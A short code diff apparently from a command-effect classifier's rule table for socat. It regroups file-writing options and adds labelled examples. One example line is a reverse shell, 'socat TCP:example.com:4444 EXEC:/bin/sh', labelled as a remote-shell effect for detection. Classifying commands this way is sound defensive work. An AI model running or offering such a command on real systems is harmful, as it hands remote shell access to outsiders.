@@ -50,10 +50,12 @@ export default [
     style: 'posix',
     options: table({
       flag: '-d, -dd, -ddd, -D, -h, -l, -ls, -lu, -ly, -s, -u, -U, -v, -V, -x, -g, -4, -6',
-      value: '-b, -t, -T, -L, -lf, -lp, -lm, -W',
+      value: '-b, -t, -T, -lp, -lm',
+      writes: '-lf, -L, -W, -r, -R', // logs, lock files, copies of what passes
     }),
     effects: joins,
     examples: [
+      ['socat -lf /opt/a - -', 'write /opt/a'],
       ['socat - TCP:example.com:80', 'connect:login example.com:80'],
       ['socat TCP:example.com:4444 EXEC:/bin/sh', 'connect:login example.com:4444', 'execute:remote-shell EXEC:/bin/sh'],
       ['socat TCP-LISTEN:8080,fork TCP:localhost:3000', 'connect:listen 8080', 'connect:login localhost:3000'],
